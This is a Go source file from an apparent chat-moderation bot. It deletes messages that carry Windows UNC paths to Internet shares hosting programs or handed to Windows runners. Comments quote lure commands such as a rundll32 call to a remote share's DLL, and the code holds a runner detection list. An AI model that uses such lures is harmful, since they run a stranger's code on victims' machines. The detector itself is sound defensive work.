package bot

import (
	"net/netip"
	"strings"

	"github.com/immunebot/immune/bot/filetype"
	"github.com/immunebot/immune/bot/linkx"
)

// Windows paths to a share on the Internet (mal48). A worker is told to
// open \\185.22.14.9\share\Offer_Letter.lnk, or to run rundll32
// \\45.133.20.7\docs\Payslip.dll,Start "to view the payslip": Windows
// opens an SMB or WebDAV share on any host a UNC path names and runs the
// program from there, past the download's mark of the web. No link is
// written (linkx reads none), so the message went unjudged. uncShares
// reads a UNC path (\\HOST\SHARE\…, \\HOST@SSL\…, \\HOST@80\…) whose host
// is a stranger's on the Internet — a public IPv4 address, or a name on
// an ending registered for abuse or under a tunnel service (uncHostOf;
// not .local, .lan, .corp, .internal, home.arpa, a single label,
// localhost, wsl$) — and which ends in a program, a script, a shortcut or
// a library (filetype's dangerous kinds), or is given to a Windows
// runner (rundll32, regsvr32, mshta, cscript, wscript, msiexec,
// powershell, cmd, start, net use): it deletes (wImpostorFile). A file
// server's path on the office network (\\fileserver\software\app.msi,
// \\10.0.0.5\share, \\deploy01.ad.contoso.com\software\7zip.msi: Active
// Directory names its servers under the company's own domain) is how
// sysadmins deploy programs, and is read only when its file's name
// hides a program (Invoice.pdf.lnk) (rev48d).

// uncRunners are the Windows programs that run what a UNC path names.
var uncRunners = []string{"rundll32", "regsvr32", "mshta", "cscript", "wscript", "msiexec", "powershell", "pwsh",
	"cmd", "start", "net use", "explorer", "certutil", "bitsadmin"}

// mayUNC is the cheap look before uncShare's: a text with two
// backslashes in a row. Most texts hold no backslash at all, which one
// IndexByte tells (Classify asks it of every text with no link).
func mayUNC(clean string) bool {
	return strings.IndexByte(clean, '\\') >= 0 && strings.Contains(clean, `\\`)
}

// uncOnly reports a text with no link that holds a UNC path uncShare
// reads: Classify judges it, where it returns at once for any other
// text with no link.
func uncOnly(clean string) bool {
	if !mayUNC(clean) {
		return false
	}
	path, _ := uncShare(clean)
	return path != ""
}

// uncShare returns the first UNC path in a text to a host on the
// Internet that names a dangerous file or is given to a Windows runner,
// with the runner (or ""), or "", "". A path begins where a word does:
// the `\\` of escaped code (C:\\inetpub\\wwwroot\\shop.example.com)
// joins a folder's name to the one before it (uncStart). The host is
// read as uncHostOf says: a name of a company's own (a domain's host
// under an ordinary ending, as Active Directory, DFS, SCCM and WebDAV
// shares are named) only when the file's name hides a program
// (Invoice.pdf.lnk), which no administrator names a file.
func uncShare(clean string) (string, string) {
	for off := 0; off < len(clean); {
		i := strings.Index(clean[off:], `\\`)
		if i < 0 {
			return "", ""
		}
		at := off + i
		off = at + 2
		for off < len(clean) && clean[off] == '\\' {
			off++ // \\\\host as JSON and Markdown write it
		}
		end := off
		for end < len(clean) && (isAlnum(clean[end]) || clean[end] == '.' || clean[end] == '-' || clean[end] == '@') {
			end++
		}
		host := clean[off:end]
		if end >= len(clean) || clean[end] != '\\' || !uncStart(clean, at) {
			continue
		}
		kind := uncHostOf(host)
		if kind == uncNone {
			continue
		}
		stop := end
		for stop < len(clean) && !strings.ContainsRune(" \t\n\"'`,<>|)", rune(clean[stop])) {
			stop++
		}
		path := clean[at:stop]
		runner := ""
		before := clean[max(0, at-40):at]
		for _, r := range uncRunners {
			if lastWordFold(before, r) >= 0 {
				runner = r // a runner's name as a word (not "started")
				break
			}
		}
		f := path[strings.LastIndexByte(path, '\\')+1:]
		var fd filetype.Finding
		if strings.IndexByte(f, '.') > 0 {
			fd = filetype.Check(f, "")
		}
		switch {
		case kind == uncName && fd.Dangerous() && fd.Disguised():
			return path, "" // Invoice.pdf.lnk: a lure's name, not a server's file
		case kind == uncName:
		case runner != "" || fd.Dangerous():
			return path, runner
		}
		off = stop
	}
	return "", ""
}

// uncStart reports a UNC path's `\\` at at beginning a word: at the
// text's start, or after a space, a quote, a bracket, '=' or the like.
// After a letter, a digit, ':' or a folder's name's punctuation it is
// the separator of a path escaped as code and JSON write one
// (C:\\inetpub\\wwwroot\\shop.example.com\\bin\\App.dll), not a share.
func uncStart(clean string, at int) bool {
	if at == 0 {
		return true
	}
	c := clean[at-1]
	return !isAlnum(c) && !strings.ContainsRune(":._-$%~", rune(c)) && c < 0x80
}

// The kinds of a UNC path's host uncHostOf tells apart.
const (
	uncNone  = iota // on the office's or the home's network, or no host
	uncIP           // a public IPv4 address
	uncCheap        // a name on an ending registered for abuse or a tunnel service's
	uncName         // another name under a public ending: a company's own as often
)

// uncHostOf tells what a UNC path's host (an @SSL or @port after it
// aside) is. A public IPv4 address (not a carrier's shared range, which
// Tailscale's machines are numbered in, nor the ranges kept for
// documentation) and a name on an ending mostly registered for abuse
// (abusedTLD) or under a tunnel service (tunnelServices,
// quiet-lake-77.trycloudflare.com: how WebDAV shares reach a victim
// from anyone's machine) are a stranger's; a single label, a private
// address and a private ending are the office's; any other name under a
// public ending is as often a company's own Active Directory, DFS or
// SharePoint host (deploy01.ad.contoso.com) as a stranger's.
func uncHostOf(host string) int {
	host, _, _ = strings.Cut(host, "@")
	if host == "" || strings.IndexByte(host, '.') < 0 {
		return uncNone // a single label: a server on the office network
	}
	if a, err := netip.ParseAddr(host); err == nil {
		if a.Is4() && a.IsGlobalUnicast() && !a.IsPrivate() && !reservedV4(a) {
			return uncIP
		}
		return uncNone
	}
	l, ok := linkx.Parse("http://" + host + "/")
	switch {
	case !ok || l.Domain == "" || l.Suffix == "home.arpa":
		return uncNone
	case tunnelServices[l.Suffix] || abusedTLD(l.Suffix) > 0:
		return uncCheap
	case l.ICANN:
		return uncName
	}
	return uncNone
}

// reservedV4 reports an IPv4 address no stranger's server has: the
// carrier-grade shared range (100.64.0.0/10, Tailscale's and CGNAT's)
// and the documentation ranges (192.0.2.0/24, 198.51.100.0/24,
// 203.0.113.0/24), which examples are written with.
func reservedV4(a netip.Addr) bool {
	b := a.As4()
	return b[0] == 100 && b[1]&0xc0 == 64 || b[0] == 192 && b[1] == 0 && b[2] == 2 ||
		b[0] == 198 && b[1] == 51 && b[2] == 100 || b[0] == 203 && b[1] == 0 && b[2] == 113
}

// judgeUNC finds a UNC path to a share on the Internet (uncShare) and
// deletes; it reports whether it added a finding.
func judgeUNC(rs *reasons, clean string) bool {
	if !mayUNC(clean) {
		return false
	}
	path, runner := uncShare(clean)
	if path == "" {
		return false
	}
	if runner != "" {
		rs.add(handRule(CodeRunCommand, wImpostorFile, path, say2("unc_run", runner, path)))
		return true
	}
	rs.add(handRule(CodeDangerousFile, wImpostorFile, path, say2("unc_file", path)))
	return true
}

func init() {
	for k, v := range map[string][2]string{
		"unc_run": {
			"the message gives %s a Windows path to a share on the Internet (%s): Windows fetches and runs the program from a stranger's server, past the download's warning",
			"tin nhắn đưa cho %s một đường dẫn Windows tới thư mục chia sẻ trên Internet (%s): Windows tải và chạy chương trình từ máy chủ của người lạ, bỏ qua cảnh báo tải về"},
		"unc_file": {
			"the message names a program on a share on the Internet by a Windows path (%s): opened, Windows runs it from a stranger's server, past the download's warning",
			"tin nhắn chỉ tới một chương trình trên thư mục chia sẻ trên Internet bằng đường dẫn Windows (%s): mở ra, Windows chạy nó từ máy chủ của người lạ, bỏ qua cảnh báo tải về"},
	} {
		englishDetails[k], vietnameseDetails[k] = v[0], v[1]
	}
}
